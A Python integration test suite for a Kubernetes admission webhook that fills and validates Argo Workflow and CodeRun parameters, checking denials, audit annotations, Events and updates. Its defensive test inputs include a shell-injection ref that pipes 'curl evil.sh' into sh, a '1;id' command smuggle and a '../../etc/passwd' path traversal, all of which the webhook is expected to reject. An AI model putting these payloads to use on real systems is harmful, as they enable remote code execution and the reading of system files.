"""coderun-webhook behind a real kube-apiserver (v1.20.2) and etcd, driven with kubectl as
`argo submit` and Argo Events would drive it. One cluster for the whole module (cluster.py).

    /usr/bin/python3 tests/cluster/test_cluster.py [--short] [-v] [TestClass.test_name ...]

Exit code 77 (skipped) when the API server binary or etcd is not available.
"""
import base64
import http.server
import json
import os
import re
import ssl
import subprocess
import sys
import threading
import time
import unittest
import uuid

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(HERE, "..", "e2e"))

import yaml  # noqa: E402

import cluster  # noqa: E402
from cluster import EVENTS_DIR, SOURCE_DIR, wait_for  # noqa: E402

CLUSTER = None
NS = "argo"
APPS = "rex, clippy, qa, triage, security"
FIELDS = ("owner", "repo", "repoFullName", "ref", "sha", "prNumber", "issueNumber")
AGENT_PROMPTS = "/etc/agents"  # the policy's promptsDir: where agent pods mount the prompts
EVIL_REF = "x$(curl evil.sh|sh)"
MUTATE_NAMES = {"workflows.mutate.coderun-webhook.taskmaster.io", "runs.mutate.coderun-webhook.taskmaster.io"}
VALIDATE_NAMES = {"workflows.validate.coderun-webhook.taskmaster.io", "runs.validate.coderun-webhook.taskmaster.io"}


# The shipped policy with workflowPlumbing: podSpecPatch: this suite checks the Workflow-level
# plumbing (volumes, the gh-token initContainer in podSpecPatch, the user's podSpecPatch merged or
# refused); T01Events.test_workflow_plumbing_none_by_policy switches to the default, none.
POLICY = None
SOURCE_POLICY = os.path.join(SOURCE_DIR, "policy", "policy.yaml")


def write_policy(workflow_plumbing):
    with open(SOURCE_POLICY, encoding="utf-8") as f:
        text = f.read()
    assert "\nworkflowPlumbing: none\n" in text, "the shipped policy sets workflowPlumbing: none"
    text = text.replace("\nworkflowPlumbing: none\n", "\nworkflowPlumbing: %s\n" % workflow_plumbing)
    with open(POLICY + ".tmp", "w", encoding="utf-8") as f:
        f.write(text)
    os.replace(POLICY + ".tmp", POLICY)


def setUpModule():
    global CLUSTER, POLICY
    POLICY = os.path.join(os.environ.get("TMPDIR", "/tmp"), "coderun-cluster-policy-%d.yaml" % os.getpid())
    write_policy("podSpecPatch")
    CLUSTER = cluster.Cluster(policy=POLICY).start()


def tearDownModule():
    if CLUSTER:
        CLUSTER.stop()
    if POLICY and os.path.exists(POLICY):
        os.unlink(POLICY)


# ----- helpers -----

def event_text(fixture):
    with open(os.path.join(EVENTS_DIR, fixture + ".json"), encoding="utf-8") as f:
        return f.read()


def fixtures():
    return sorted(f[:-5] for f in os.listdir(EVENTS_DIR) if f.endswith(".json"))


def expected_values(fixture):
    """What the webhook must fill from a fixture, independently of it: the seed's jq rules run by
    the real jq, with the deliberate differences listed (and reasoned) in
    tests/e2e/test_jq_differential.py."""
    from seed_jq import seed_values
    from test_jq_differential import DELIBERATE
    values = seed_values(os.path.join(EVENTS_DIR, fixture + ".json"))
    for (name, field), (value, _reason) in DELIBERATE.items():
        if name == fixture:
            values[field] = value
    return values


def unique(prefix):
    return "%s-%s" % (prefix, uuid.uuid4().hex[:8])


def workflow(parameters, name=None, generate_name="coderun-", template="coderun-template", ns=NS, labels=None):
    metadata = {"namespace": ns}
    if name:
        metadata["name"] = name
    else:
        metadata["generateName"] = generate_name
    if labels:
        metadata["labels"] = labels
    return {"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow", "metadata": metadata,
            "spec": {"workflowTemplateRef": {"name": template},
                     "arguments": {"parameters": [{"name": k, "value": v} for k, v in parameters]}}}


def run_object(kind, spec, name=None, ns=NS):
    metadata = {"namespace": ns}
    if name:
        metadata["name"] = name
    else:
        metadata["generateName"] = kind.lower() + "-"
    return {"apiVersion": "taskmaster.io/v1", "kind": kind, "metadata": metadata, "spec": spec}


def kubectl(*args, **kwargs):
    return CLUSTER.kubectl(*args, **kwargs)


def create(obj, *extra, check=True):
    """kubectl create -f - as argo submit posts it; returns the Result (stdout: the created object)."""
    return kubectl("create", "-f", "-", "-o", "json", *extra, input=json.dumps(obj), check=check)


def get(kind, name, ns=NS):
    return kubectl("get", kind, name, "-n", ns, "-o", "json").json()


def parameters(obj):
    return {p["name"]: p.get("value") for p in obj["spec"]["arguments"]["parameters"]}


def denial(result):
    """The webhook's message from kubectl's stderr: `... admission webhook "NAME" denied the request: MESSAGE`."""
    match = re.search(r'admission webhook "([^"]+)" denied the request: (.*)', result.stderr)
    return (match.group(1), match.group(2).strip()) if match else (None, None)


def events_for(kind, name, ns=NS):
    """`kubectl events --for kind/name`, as a user reads them (no output at all when there are none)."""
    result = kubectl("events", "--for", "%s/%s" % (kind, name), "-n", ns, "-o", "json")
    return (result.json().get("items") or []) if result.stdout.strip() else []


def events_v1(ns=NS):
    """events.k8s.io/v1 Events, as the webhook posts them (regarding, series, note)."""
    return kubectl("get", "events.v1.events.k8s.io", "-n", ns, "-o", "json").json()["items"]


def wait_event(kind, name, reason, ns=NS, timeout=30):
    return wait_for(lambda: [e for e in events_for(kind, name, ns) if e.get("reason") == reason], timeout,
                    "Event %s for %s/%s" % (reason, kind, name))


QUIET_SECONDS = 3


def assert_stays_empty(test, events_matching, ns=NS, quiet=None):
    """An absence, asserted: creates a sentinel Workflow after the request under test and waits for
    the sentinel's Mutated Event (so the webhook's Event queue has reached everything before it),
    then checks that events_matching() stays empty for QUIET_SECONDS more, since the webhook's
    senders run in parallel and may finish out of order."""
    name = unique("sentinel")
    create(workflow([("github-app", "rex"), ("repoFullName", "acme/sentinel")], name=name, ns=ns))
    wait_event("workflow", name, "Mutated", ns)
    deadline = time.monotonic() + (quiet or QUIET_SECONDS)
    while True:
        found = events_matching()
        test.assertEqual(found, [], "an Event that must not exist")
        if time.monotonic() > deadline:
            return
        time.sleep(0.3)


def audit_for(resource, name, verb="create", ns=NS, timeout=30):
    def found():
        return [e for e in CLUSTER.audit_entries()
                if e.get("stage") == "ResponseComplete" and e.get("verb") == verb
                and e.get("objectRef", {}).get("resource") == resource
                and e.get("objectRef", {}).get("name") == name and e.get("objectRef", {}).get("namespace") == ns]
    return wait_for(found, timeout, "audit entry %s %s/%s" % (verb, resource, name))


class ClusterTest(unittest.TestCase):
    maxDiff = None

    def assertDenied(self, result, message, webhook=None):
        self.assertNotEqual(result.returncode, 0, "accepted, expected the denial %r: %r" % (message, result))
        name, got = denial(result)
        self.assertEqual(got, message, result.stderr)
        if webhook:
            self.assertEqual(name, webhook, result.stderr)

    def assertFilled(self, params, fixture, app="rex"):
        expected = expected_values(fixture)
        for field in FIELDS:
            with self.subTest(fixture=fixture, field=field):
                if expected[field] is None:
                    self.assertIn(params.get(field) or None, (None,), "%s filled from nothing" % field)
                else:
                    self.assertEqual(params.get(field), expected[field])
        self.assertEqual(params.get("github-app"), app)


# ----- every event type, Argo Events envelopes -----

class T01Events(ClusterTest):
    def test_every_event_type_fills_the_workflow(self):
        """One Workflow per fixture, created in one `kubectl create -f` (a List), read back with
        kubectl get -o json: every field the seed's jq (and the listed deliberate differences)
        gives, labels, the annotation of sources, volumes and the gh-token initContainer."""
        names = fixtures()
        self.assertGreaterEqual(len(names), 40)
        batch = unique("ev")
        items = []
        for i, fixture in enumerate(names):
            app = ("rex", "clippy", "qa")[i % 3]
            items.append(workflow([("github-app", app), ("event", event_text(fixture))], name="%s-%d" % (batch, i),
                                  labels={"cluster-test/batch": batch}))
        result = kubectl("create", "-f", "-", "-o", "name",
                         input=json.dumps({"apiVersion": "v1", "kind": "List", "items": items}), check=False)
        self.assertEqual(result.returncode, 0, result)
        stored = {o["metadata"]["name"]: o for o in
                  kubectl("get", "workflows", "-n", NS, "-l", "cluster-test/batch=" + batch, "-o", "json").json()["items"]}
        self.assertEqual(len(stored), len(names))
        for i, fixture in enumerate(names):
            obj = stored["%s-%d" % (batch, i)]
            app = ("rex", "clippy", "qa")[i % 3]
            params = parameters(obj)
            self.assertFilled(params, fixture, app)
            expected = expected_values(fixture)
            with self.subTest(fixture=fixture, what="labels and plumbing"):
                labels = obj["metadata"]["labels"]
                self.assertEqual(labels["taskmaster.io/github-app"], app)
                self.assertEqual(labels["taskmaster.io/repo"], expected["repoFullName"].replace("/", "."))
                if expected["prNumber"]:
                    self.assertEqual(labels["taskmaster.io/pr-number"], expected["prNumber"])
                sources = json.loads(obj["metadata"]["annotations"]["taskmaster.io/value-sources"])
                self.assertTrue(sources["repoFullName"].startswith("event:"), sources)
                self.assertEqual(sorted(v["name"] for v in obj["spec"]["volumes"]),
                                 ["controller-agents", "gh-token", "mcp-requirements", "workspace"])
                patch = json.loads(obj["spec"]["podSpecPatch"])
                self.assertEqual([c["name"] for c in patch["initContainers"]], ["gh-token"])
                self.assertEqual(patch["initContainers"][0]["env"][0]["valueFrom"]["secretKeyRef"]["name"],
                                 "github-app-" + app)
                self.assertTrue(params["systemPromptPath"].endswith("/%s_system-prompt.md" % app))

    def test_workflow_plumbing_none_by_policy(self):
        """(issue 15) workflowPlumbing is a policy choice, hot reloaded: under none (the default) a
        Workflow gets its parameters, labels and sources only, no spec.volumes, no podSpecPatch (Argo's
        templateReferencing Strict/Secure refuses both), and a podSpecPatch the user wrote is stored as
        written, even one podSpecPatch mode refuses; a CodeRun still gets its gh-token initContainer.
        Under podSpecPatch the log warns, at start and at the reload back."""
        def warnings():
            return [line for line in CLUSTER.webhook_log_lines()
                    if line.get("msg", "").startswith("workflowPlumbing is podSpecPatch")]

        def reloaded_to(mode):
            return [line for line in CLUSTER.webhook_log_lines()
                    if line.get("msg") == "policy reloaded" and line.get("workflow_plumbing") == mode]

        at_start = len(warnings())
        self.assertGreaterEqual(at_start, 1, "a warning at start")
        before = len(reloaded_to("none"))
        write_policy("none")
        try:
            wait_for(lambda: len(reloaded_to("none")) > before, 20, "the policy reloaded to none")
            self.assertEqual(len(warnings()), at_start, "no warning under none")
            user_patch = "a: &x 1\nb: *x\n"  # refused under podSpecPatch; not read under none
            for own in (None, user_patch):
                with self.subTest(user_pod_spec_patch=own):
                    obj = workflow([("github-app", "rex"), ("event", event_text("pull_request.opened"))],
                                   name=unique("plumbing-none"))
                    if own is not None:
                        obj["spec"]["podSpecPatch"] = own
                    stored = create(obj).json()
                    self.assertEqual(parameters(stored)["repoFullName"], "Codertocat/Hello-World")
                    self.assertEqual(stored["metadata"]["labels"]["taskmaster.io/github-app"], "rex")
                    self.assertIn("taskmaster.io/value-sources", stored["metadata"]["annotations"])
                    self.assertNotIn("volumes", stored["spec"])
                    self.assertEqual(stored["spec"].get("podSpecPatch"), own)
            spec = create(run_object("CodeRun", {"github": {"appName": "rex"},
                                                 "event": json.loads(event_text("pull_request.opened"))})).json()["spec"]
            self.assertEqual([c["name"] for c in spec["initContainers"]], ["gh-token"])
            self.assertEqual(len(spec["volumes"]), 4)
        finally:
            before = len(reloaded_to("podSpecPatch"))
            write_policy("podSpecPatch")
            wait_for(lambda: len(reloaded_to("podSpecPatch")) > before, 20, "the policy reloaded to podSpecPatch")
        self.assertEqual(len(warnings()), at_start + 1, "one warning at the reload back to podSpecPatch")

    def test_argo_events_envelopes(self):
        """The whole Argo Events event (headers + body; also `header`) as the event parameter."""
        for fixture, event_type, key in (("pull_request.opened", "pull_request", "headers"),
                                         ("issue_comment.created.on-pull-request", "issue_comment", "header"),
                                         ("push.branch", "push", "headers")):
            with self.subTest(fixture=fixture, key=key):
                envelope = {key: {"X-Github-Event": [event_type], "Content-Type": ["application/json"]},
                            "body": json.loads(event_text(fixture))}
                name = unique("envelope")
                create(workflow([("github-app", "clippy"), ("event", json.dumps(envelope))], name=name))
                self.assertFilled(parameters(get("workflow", name)), fixture, "clippy")
                entry = audit_for("workflows", name)[0]
                self.assertIn(event_type, entry["annotations"].values(), entry["annotations"])

    def test_user_parameters_win_and_warn(self):
        """-p ref=... wins over the event, and kubectl shows the webhook's warning."""
        name = unique("given")
        result = create(workflow([("github-app", "rex"), ("ref", "my-branch"),
                                  ("event", event_text("pull_request.opened"))], name=name))
        self.assertIn("Warning: ref: 'my-branch' set by the user is kept; the event says 'changes'", result.stderr)
        self.assertEqual(parameters(get("workflow", name))["ref"], "my-branch")

    def test_unusable_event_is_a_warning(self):
        """A malformed event: kubectl shows the warning, defaults apply, EventParseFailed is posted,
        and (issue 13, 7) the Mutated note lists every field the webhook's log says it filled."""
        name = unique("badevent")
        result = create(workflow([("github-app", "qa"), ("event", "{not json"), ("repoFullName", "acme/widgets")],
                                 name=name))
        self.assertRegex(result.stderr, r"(?m)^Warning: event ignored, not valid JSON: ")
        params = parameters(result.json())
        self.assertEqual((params["owner"], params["repo"], params["ref"]), ("acme", "widgets", "main"))
        wait_event("workflow", name, "EventParseFailed")
        note = wait_event("workflow", name, "Mutated")[0]["message"]
        filled = [line.get("filled") for line in CLUSTER.webhook_log_lines()
                  if line.get("msg") == "admission" and line.get("name") == name and line.get("filled")]
        self.assertTrue(filled, "no log line with the fields filled for " + name)
        for field in filled[0]:
            self.assertIn("%s=%s" % (field, params[field]), note)


# ----- CodeRun and DocsRun -----

class T02Runs(ClusterTest):
    def test_coderun_filled_from_its_event(self):
        result = create(run_object("CodeRun", {"github": {"appName": "rex"}, "taskRef": "task/format",
                                               "event": json.loads(event_text("pull_request.opened"))}))
        name = result.json()["metadata"]["name"]
        spec = get("coderun", name)["spec"]
        self.assertEqual((spec["repo"], spec["owner"], spec["ref"], spec["sha"], spec["pullRequest"]),
                         ("Codertocat/Hello-World", "Codertocat", "changes",
                          "ec26c3e57ca3a959ca5aad62de7213c562f8c821", 2))
        self.assertEqual(spec["prompts"], {"system": AGENT_PROMPTS + "/rex_system-prompt.md", "user": "task/prompt.md"})
        self.assertEqual([c["name"] for c in spec["initContainers"]], ["gh-token"])
        self.assertEqual(spec["github"]["tokenFile"], "/var/run/github/token")
        self.assertEqual(sorted(v["name"] for v in spec["volumes"]),
                         ["controller-agents", "gh-token", "mcp-requirements", "workspace"])
        wait_event("coderun", name, "Mutated")

    def test_docsrun_with_explicit_fields(self):
        with open(os.path.join(SOURCE_DIR, "manifests", "examples", "docsrun.yaml"), encoding="utf-8") as f:
            obj = yaml.safe_load(f)
        name = create(obj).json()["metadata"]["name"]
        spec = get("docsrun", name)["spec"]
        self.assertEqual((spec["repo"], spec["owner"], spec["ref"]), ("acme/handbook", "acme", "main"))
        self.assertEqual(spec["docs"], {"path": "docs/", "action": "build-preview"})
        self.assertEqual(spec["prompts"]["system"], AGENT_PROMPTS + "/clippy_system-prompt.md")
        self.assertEqual(spec["prompts"]["user"], "docs/task.md")

    def test_coderun_denials(self):
        self.assertDenied(create(run_object("CodeRun", {"github": {"appName": "hacker"}, "repo": "acme/x"}), check=False),
                          "Error: Invalid github-app 'hacker'. Must be one of: " + APPS,
                          "runs.mutate.coderun-webhook.taskmaster.io")
        self.assertDenied(create(run_object("DocsRun", {"github": {"appName": "qa"}}), check=False),
                          "Error: Repository information not available from event payload and no git context found")

    def test_crd_does_not_require_repo(self):
        """(issue 13, 4) kubectl's own validation accepts a CodeRun that names its repository only
        through its event; the webhook fills it."""
        def client_side(obj):
            return kubectl("create", "--dry-run=client", "--validate=true", "-f", "-", "-o", "name",
                           input=json.dumps(obj), check=False)
        # The control: validation is on, and the API server's OpenAPI document (published a few
        # seconds after the CRD) has the CodeRun schema: a CodeRun without github is refused.
        control = run_object("CodeRun", {"repo": "acme/x"}, name=unique("nogithub"))
        wait_for(lambda: 'missing required field "github"' in client_side(control).stderr, 60,
                 "kubectl's client-side validation to know the CodeRun schema")
        obj = run_object("CodeRun", {"github": {"appName": "qa"}, "event": json.loads(event_text("push.branch"))},
                         name=unique("norepo"))
        client = client_side(obj)
        self.assertEqual(client.returncode, 0, client)
        self.assertEqual(create(obj).json()["spec"]["repo"], expected_values("push.branch")["repoFullName"])


# ----- denials -----

class T03Denials(ClusterTest):
    def test_seed_messages_verbatim_from_kubectl(self):
        cases = [
            ([("github-app", "hacker"), ("event", event_text("pull_request.opened"))],
             "Error: Invalid github-app 'hacker'. Must be one of: " + APPS),
            ([("event", event_text("pull_request.opened"))],
             "Error: Invalid github-app ''. Must be one of: " + APPS),
            ([("github-app", "rex"), ("event", "{}")],
             "Error: Repository information not available from event payload and no git context found"),
            ([("github-app", "rex"), ("repoFullName", "acme/x"), ("ref", EVIL_REF)],
             "Error: Invalid ref 'x$(curl evil.sh|sh)' (from parameter): contains '$', which a shell would act on"),
            ([("github-app", "rex"), ("repoFullName", "acme/x"), ("prNumber", "1;id")], None),
            ([("github-app", "rex"), ("repoFullName", "acme/x"), ("taskRef", "../../etc/passwd")], None),
            ([("github-app", "rex"), ("repoFullName", "acme/x"),
              ("systemPromptPath", AGENT_PROMPTS + "/missing_system-prompt.md")],
             "Error: System prompt not found at " + AGENT_PROMPTS + "/missing_system-prompt.md"),
            ([("github-app", "rex"), ("repoFullName", "acme/x"), ("ref", "a"), ("ref", "b")],
             "Error: parameter ref is given more than once; give each parameter once, so that the value "
             "checked is the value used"),
        ]
        for params, message in cases:
            with self.subTest(params=[p for p in params if p[0] != "event"]):
                result = create(workflow(params), check=False)
                webhook, got = denial(result)
                self.assertNotEqual(result.returncode, 0, result)
                self.assertIn("Error from server (Forbidden)", result.stderr)
                self.assertEqual(webhook, "workflows.mutate.coderun-webhook.taskmaster.io", result.stderr)
                if message:
                    self.assertEqual(got, message)
                else:
                    field = params[-1][0]
                    self.assertTrue(got.startswith("Error: Invalid %s '%s'" % (field, params[-1][1])), got)

    def test_pod_spec_patch_and_run_schema(self):
        obj = workflow([("github-app", "rex"), ("repoFullName", "acme/x")])
        obj["spec"]["podSpecPatch"] = "a: &x 1\nb: *x\n"
        result = create(obj, check=False)
        self.assertNotEqual(result.returncode, 0, result)
        self.assertTrue(denial(result)[1].startswith(
            "Error: spec.podSpecPatch holds a YAML anchor (&x); anchors and aliases are not expanded (line 1, column 4)."),
            result.stderr)
        self.assertDenied(create(run_object("CodeRun", {"github": {"appName": "rex"}, "repo": "acme/x",
                                                        "workspace": {"path": "relative"}}), check=False),
                          "Error: CodeRun is invalid at $.spec.workspace.path: "
                          "Failed to match regex specified by 'pattern' constraint.",
                          "runs.mutate.coderun-webhook.taskmaster.io")
        self.assertDenied(create(run_object("CodeRun", {"github": {"appName": "rex"}, "repo": "acme/x",
                                                        "pullRequest": 0}), check=False),
                          "Error: Invalid prNumber '0' (from spec): is not a positive integer")

    def test_fork_ref_injection_in_event(self):
        event = json.loads(event_text("pull_request.opened"))
        event["pull_request"]["head"]["ref"] = EVIL_REF
        result = create(workflow([("github-app", "rex"), ("event", json.dumps(event))]), check=False)
        self.assertDenied(result, "Error: Invalid ref 'x$(curl evil.sh|sh)' (from event:.pull_request.head.ref): "
                                  "contains '$', which a shell would act on")

    def test_denied_event_is_posted(self):
        name = unique("denied")
        self.assertNotEqual(create(workflow([("github-app", "hacker"), ("repoFullName", "acme/x")], name=name),
                                   check=False).returncode, 0)
        event = wait_event("workflow", name, "Denied")[0]
        self.assertIn("Invalid github-app 'hacker'", event["message"])


# ----- Events, audit, dry-run -----

class T04Audit(ClusterTest):
    def test_mutated_event_names_the_stored_object(self):
        """generateName: the name exists only after mutating admission; the Event names the stored
        object, with its uid (kubectl events --for workflow/NAME)."""
        obj = create(workflow([("github-app", "rex"), ("event", event_text("pull_request.opened"))],
                              generate_name="coderun-template-")).json()
        name, uid = obj["metadata"]["name"], obj["metadata"]["uid"]
        self.assertTrue(name.startswith("coderun-template-"))
        events = wait_event("workflow", name, "Mutated")
        self.assertEqual(len(events), 1, events)
        event = events[0]
        self.assertEqual(event["reportingComponent"], "taskmaster.io/coderun-webhook")
        self.assertEqual(event["action"], "Admit")
        self.assertEqual(event["involvedObject"].get("uid"), uid, event["involvedObject"])
        self.assertIn("ref=changes (event:.pull_request.head.ref)", event["message"])
        regarding = [e["regarding"] for e in events_v1() if e["reason"] == "Mutated" and e["regarding"]["name"] == name]
        self.assertEqual(regarding, [{"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow", "name": name,
                                      "namespace": NS, "uid": uid}])

    def test_audit_annotations_of_both_passes(self):
        name = unique("audit")
        create(workflow([("github-app", "clippy"), ("event", event_text("pull_request.opened"))], name=name))
        annotations = audit_for("workflows", name)[0]["annotations"]
        self.assertEqual(set(CLUSTER.webhook_names("MutatingWebhookConfiguration")), MUTATE_NAMES)
        self.assertEqual(set(CLUSTER.webhook_names("ValidatingWebhookConfiguration")), VALIDATE_NAMES)
        self.assertEqual(annotations.get("workflows.mutate.coderun-webhook.taskmaster.io/decision"), "mutated")
        self.assertEqual(annotations.get("workflows.validate.coderun-webhook.taskmaster.io/decision"), "allowed")
        for webhook in ("workflows.mutate", "workflows.validate"):
            prefix = webhook + ".coderun-webhook.taskmaster.io/"
            self.assertEqual(annotations.get(prefix + "github-app"), "clippy", annotations)
            self.assertEqual(annotations.get(prefix + "repo"), "Codertocat/Hello-World", annotations)
            self.assertEqual(annotations.get(prefix + "event-type"), "pull_request", annotations)
        run = create(run_object("CodeRun", {"github": {"appName": "qa"}, "repo": "acme/widgets"},
                                name=unique("auditrun"))).json()
        annotations = audit_for("coderuns", run["metadata"]["name"])[0]["annotations"]
        self.assertEqual(annotations.get("runs.mutate.coderun-webhook.taskmaster.io/decision"), "mutated")
        self.assertEqual(annotations.get("runs.validate.coderun-webhook.taskmaster.io/decision"), "allowed")
        self.assertNotIn("already been set", CLUSTER.apiserver_log())

    def test_denial_in_audit_log(self):
        name = unique("auditdeny")
        create(workflow([("github-app", "hacker"), ("repoFullName", "acme/x")], name=name), check=False)
        entry = audit_for("workflows", name)[0]
        self.assertEqual(entry["responseStatus"]["code"], 403)
        self.assertEqual(entry["annotations"].get("workflows.mutate.coderun-webhook.taskmaster.io/decision"), "denied")
        self.assertEqual(entry["annotations"].get("workflows.mutate.coderun-webhook.taskmaster.io/rule"), "github-app")

    def test_dry_run_posts_no_event(self):
        name = unique("dry")
        result = create(workflow([("github-app", "rex"), ("event", event_text("push.branch"))], name=name),
                        "--dry-run=server")
        self.assertEqual(parameters(result.json())["repoFullName"], expected_values("push.branch")["repoFullName"])
        self.assertNotEqual(kubectl("get", "workflow", name, "-n", NS, check=False).returncode, 0)
        assert_stays_empty(self, lambda: [e for e in events_v1() if e["regarding"]["name"] == name])

    def test_already_exists_gets_no_second_event(self):
        """(issue 13, 3) A create that fails after admission (AlreadyExists) posts no Event."""
        name = unique("dup")
        obj = workflow([("github-app", "rex"), ("event", event_text("pull_request.opened"))], name=name)
        uid = create(obj).json()["metadata"]["uid"]
        wait_event("workflow", name, "Mutated")
        again = create(obj, check=False)
        self.assertIn("AlreadyExists", again.stderr)
        def second():
            mutated = [e for e in events_v1() if e["reason"] == "Mutated" and e["regarding"]["name"] == name]
            self.assertEqual(len(mutated), 1, mutated)
            self.assertEqual(mutated[0]["regarding"].get("uid"), uid)
            return [mutated[0]["series"]] if mutated[0].get("series") else []  # a repeat aggregated
        assert_stays_empty(self, second)


# ----- what the issue-13 fixes change -----

class T05PromptsAndTemplates(ClusterTest):
    def test_system_prompt_path_is_the_agent_pods_path(self):
        """(issue 13, 5) The webhook reads prompts from --prompts-dir policy/prompts; the path it
        writes is where agent pods mount them, the policy's promptsDir."""
        for app, prompt in (("rex", "rex"), ("triage", "default")):
            with self.subTest(app=app):
                obj = create(workflow([("github-app", app), ("repoFullName", "acme/widgets")])).json()
                self.assertEqual(parameters(obj)["systemPromptPath"], "%s/%s_system-prompt.md" % (AGENT_PROMPTS, prompt))
        given = create(workflow([("github-app", "rex"), ("repoFullName", "acme/widgets"),
                                 ("systemPromptPath", AGENT_PROMPTS + "/qa_system-prompt.md")])).json()
        self.assertEqual(parameters(given)["systemPromptPath"], AGENT_PROMPTS + "/qa_system-prompt.md")

    def test_templates_pass_sha_and_issue_number(self):
        """(issue 13, 7) The CodeRun coderun-template creates (and the DocsRun of docsrun-template)
        carries sha and the issue number: the stored template's resource manifest, with the
        parameters of an admitted Workflow substituted as Argo's controller does, is created and
        keeps both (a field the CRD does not know would be pruned)."""
        for template_name, kind in (("coderun-template", "coderun"), ("docsrun-template", "docsrun")):
            with self.subTest(template=template_name):
                template = get("workflowtemplate", template_name)
                manifest = [t for t in template["spec"]["templates"] if t.get("resource")][0]["resource"]["manifest"]
                fields = {}
                for line in manifest.splitlines():
                    match = re.match(r"\s*([A-Za-z]+):.*\{\{=?[^}]*workflow\.parameters\.(sha|issueNumber)\b", line)
                    if match:
                        fields[match.group(2)] = match.group(1)
                self.assertEqual(sorted(fields), ["issueNumber", "sha"], manifest)
                declared = {p["name"] for p in template["spec"]["arguments"]["parameters"]}
                for fixture in ("issue_comment.created", "pull_request.opened"):
                    wf = create(workflow([("github-app", "rex"), ("event", event_text(fixture))],
                                         template=template_name)).json()
                    run = yaml.safe_load(substitute(manifest, wf["metadata"]["name"], parameters(wf), declared))
                    run["metadata"]["namespace"] = NS
                    spec = get(kind, create(run).json()["metadata"]["name"])["spec"]
                    expected = expected_values(fixture)
                    self.assertEqual(spec.get(fields["sha"]), expected["sha"], (fixture, spec))
                    got_issue = spec.get(fields["issueNumber"])
                    self.assertEqual(None if got_issue is None else str(got_issue), expected["issueNumber"],
                                     (fixture, spec))
                    self.assertEqual(spec["repo"], expected["repoFullName"])


def substitute(manifest, workflow_name, params, declared):
    """Argo's substitution of a resource manifest: {{workflow.name}}, {{workflow.parameters.X}}
    (an argument the template declares and the Workflow does not set is empty), and the
    `{{=sprig.empty(workflow.parameters.X) ? 'null' : workflow.parameters.X}}` expressions the
    templates use (also with sprig.quote(...) around the value). Anything else left is a failure."""
    values = {name: "" for name in declared}
    values.update({k: v or "" for k, v in params.items()})

    def expression(match):
        a, quote, b = match.group(1), match.group(2), match.group(3)
        assert a == b, match.group(0)
        if not values.get(a):
            return "null"
        return json.dumps(values[a]) if quote else values[a]
    text = re.sub(r"\{\{=\s*sprig\.empty\(workflow\.parameters\.([\w-]+)\)\s*\?\s*'null'\s*:\s*"
                  r"(sprig\.quote\()?workflow\.parameters\.([\w-]+)\)?\s*\}\}", expression, manifest)
    text = text.replace("{{workflow.name}}", workflow_name)
    text = re.sub(r"\{\{workflow\.parameters\.([\w-]+)\}\}", lambda m: values[m.group(1)], text)
    assert "{{" not in text, text
    return text


class T06Updates(ClusterTest):
    """(issue 13, 1) UPDATE is intercepted with the rules of CREATE."""

    def stored(self):
        name = unique("upd")
        create(workflow([("github-app", "rex"), ("event", event_text("pull_request.opened"))], name=name))
        return get("workflow", name)

    def test_patch_or_replace_to_a_foreign_app_or_unsafe_ref_is_refused(self):
        """kubectl patch --type merge and kubectl replace of a stored Workflow, each changing
        github-app to hacker or ref to a shell injection: refused with the message of a create,
        and the stored object unchanged."""
        changes = (("github-app", "hacker", "Error: Invalid github-app 'hacker'. Must be one of: " + APPS),
                   ("ref", EVIL_REF, "Error: Invalid ref 'x$(curl evil.sh|sh)' (from parameter): "
                                     "contains '$', which a shell would act on"))
        for verb in ("patch", "replace"):
            for field, value, message in changes:
                with self.subTest(verb=verb, field=field):
                    obj = self.stored()
                    name = obj["metadata"]["name"]
                    for p in obj["spec"]["arguments"]["parameters"]:
                        if p["name"] == field:
                            p["value"] = value
                    if verb == "patch":
                        result = kubectl("patch", "workflow", name, "-n", NS, "--type", "merge", "-p",
                                         json.dumps({"spec": {"arguments": obj["spec"]["arguments"]}}), check=False)
                    else:
                        result = kubectl("replace", "-f", "-", input=json.dumps(obj), check=False)
                    self.assertDenied(result, message)
                    stored = parameters(get("workflow", name))
                    self.assertEqual((stored["github-app"], stored["ref"]), ("rex", "changes"))

    def test_replacing_the_event_is_refused(self):
        """kubectl replace with an event about another repository: the values filled from the
        first event would stay beside it, so the update is refused and the object unchanged."""
        obj = self.stored()
        name = obj["metadata"]["name"]
        for p in obj["spec"]["arguments"]["parameters"]:
            if p["name"] == "event":
                p["value"] = event_text("push.branch")
        result = kubectl("replace", "-f", "-", input=json.dumps(obj), check=False)
        self.assertDenied(result, "Error: the event of a Workflow cannot be changed once it is created: the values "
                                  "filled from it would no longer match it; submit a new run for the new event")
        stored = get("workflow", name)
        self.assertEqual(json.loads(parameters(stored)["event"])["repository"]["full_name"], "Codertocat/Hello-World")

    def test_status_and_label_updates_pass(self):
        obj = self.stored()
        name = obj["metadata"]["name"]
        kubectl("label", "workflow", name, "-n", NS, "cluster-test/touched=yes")
        kubectl("patch", "workflow", name, "-n", NS, "--type", "merge", "-p", '{"status":{"phase":"Running"}}')
        after = get("workflow", name)
        self.assertEqual(after["metadata"]["labels"]["cluster-test/touched"], "yes")
        self.assertEqual(after.get("status", {}).get("phase"), "Running")
        self.assertEqual(after["spec"], obj["spec"])
        # v1.20 has no matchConditions: both updates did reach coderun-webhook, which changed nothing.
        for entry in audit_for("workflows", name, verb="patch"):
            rounds = [json.loads(v) for k, v in entry["annotations"].items()
                      if k.startswith("mutation.webhook.admission.k8s.io/")]
            self.assertIn({"configuration": "coderun-webhook", "webhook": "workflows.mutate.coderun-webhook.taskmaster.io",
                           "mutated": False}, rounds, entry["annotations"])

    def test_apply_twice_keeps_the_filled_parameters(self):
        name = unique("apply")
        path = os.path.join(CLUSTER.dir, name + ".json")
        with open(path, "w") as f:
            json.dump(workflow([("github-app", "rex"), ("event", event_text("pull_request.opened"))], name=name), f)
        kubectl("apply", "-f", path)
        first = get("workflow", name)
        self.assertFilled(parameters(first), "pull_request.opened")
        kubectl("apply", "-f", path)
        second = get("workflow", name)
        self.assertFilled(parameters(second), "pull_request.opened")
        self.assertEqual(parameters(second), parameters(first))
        self.assertEqual(second["spec"]["podSpecPatch"], first["spec"]["podSpecPatch"])
        self.assertEqual(second["metadata"]["labels"], first["metadata"]["labels"])

    def test_coderun_update_to_a_foreign_app_is_refused(self):
        run = create(run_object("CodeRun", {"github": {"appName": "qa"}, "repo": "acme/widgets"})).json()
